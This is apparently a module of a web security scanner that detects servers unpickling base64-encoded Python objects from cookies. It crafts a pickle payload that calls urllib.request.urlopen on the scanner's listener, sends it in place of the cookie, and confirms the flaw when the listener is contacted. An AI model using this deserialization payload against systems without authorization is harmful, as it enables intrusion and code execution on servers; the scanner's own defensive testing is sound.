"""Cookies that hold a packed Python object: whether the server unpacks whatever is in them."""

import base64
import binascii
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from typing import Final
from urllib.parse import unquote

from stopper.core.answers.cookie_flags import set_cookies
from stopper.core.app import Route
from stopper.core.exchange import Exchange, Request, Response
from stopper.core.finding import Evidence
from stopper.core.place import RouteRef
from stopper.core.probe import Steps, Target, listen, send
from stopper.core.probing.accounts.login import known_log_in
from stopper.core.probing.baseline import attempt, candidates

PAGES_MOST: Final = {"quick": 4, "standard": 12, "deep": 40}
"""Answers in which such a cookie is looked for, by the scan's depth."""


LOGGED_IN_MOST: Final = 8
"""Pages at which a cookie of a log-in is tried."""


@dataclass(frozen=True, slots=True)
class _Packed:
    ref: RouteRef
    name: str
    exchange: Exchange
    """The answer that set it."""
    read: Request | None = None
    """A request that may read it, where that is another."""


def unpacked_cookies(target: Target) -> Steps[tuple[tuple[RouteRef, ...], list[Evidence]]]:
    """The routes that unpack a cookie of theirs, proven by an object that asks a listener of ours when it is unpacked."""
    seen: dict[str, _Packed] = {}
    pairs = [pair for pair in candidates(target) if not pair[0].parameters]
    for route, method in pairs[: PAGES_MOST[target.depth]]:
        exchange = yield from attempt(send(target.request_for(route, method)))
        if exchange is None:
            continue
        for name in packed_cookies(exchange.response):
            seen.setdefault(name, _Packed(RouteRef(method, route.path), name, exchange))
    places: list[RouteRef] = []
    evidence: list[Evidence] = []
    found = [*seen.values(), *_of_log_ins(target, pairs, set(seen))]
    for number, one in enumerate(found):
        if one.ref in places or (one.name not in seen and places):
            continue
        listener = yield from listen()
        object_ = f"curllib.request\nurlopen\n(V{listener.url}/{target.canary}-{number}\ntR."
        worn = replace(one.read or one.exchange.request, identity=None).with_headers(
            ("Cookie", f"{one.name}={base64.b64encode(object_.encode()).decode()}")
        )
        answer = yield from send(worn)
        if any(f"{target.canary}-{number}" in hit.target for hit in listener.hits()):
            places.append(one.ref)
            evidence += [
                Evidence("exchange", f"the server packs an object into the cookie {one.name}", one.exchange),
                Evidence(
                    "exchange", "an object of ours in its place asks a listener of ours once it is unpacked", answer
                ),
                Evidence("effect", f"the server came because of the cookie {one.name}"),
            ]
    return tuple(places), evidence


def _of_log_ins(target: Target, pairs: Sequence[tuple[Route, str]], known: set[str]) -> Iterator[_Packed]:
    """Such cookies of a log-in, each at some pages: which of them reads it, nothing tells."""
    for person in target.identities[:1]:
        entered = known_log_in(target, person)
        if entered is None:
            continue
        for name in packed_cookies(entered.response):
            for route, method in pairs[:LOGGED_IN_MOST] if name not in known else ():
                yield _Packed(RouteRef(method, route.path), name, entered, target.request_for(route, method))


def packed_cookies(response: Response) -> Iterator[str]:
    """The names of the cookies that an answer sets and whose value is a packed object in base64."""
    return (one.name for one in set_cookies(response) if _is_packed(one.value))


def _is_packed(value: str) -> bool:
    """Whether the text is base64 of a pickle; it is only read, never unpacked."""
    import pickletools  # a check of the source never comes here

    text = unquote(value).strip('"').replace("-", "+").replace("_", "/")
    try:
        data = base64.b64decode(text + "=" * (-len(text) % 4), validate=True)
        operations = [operation.name for operation, _, _ in pickletools.genops(data)]
    except (binascii.Error, ValueError, IndexError, UnicodeDecodeError):
        return False
    return len(data) >= 4 and operations[-1:] == ["STOP"]
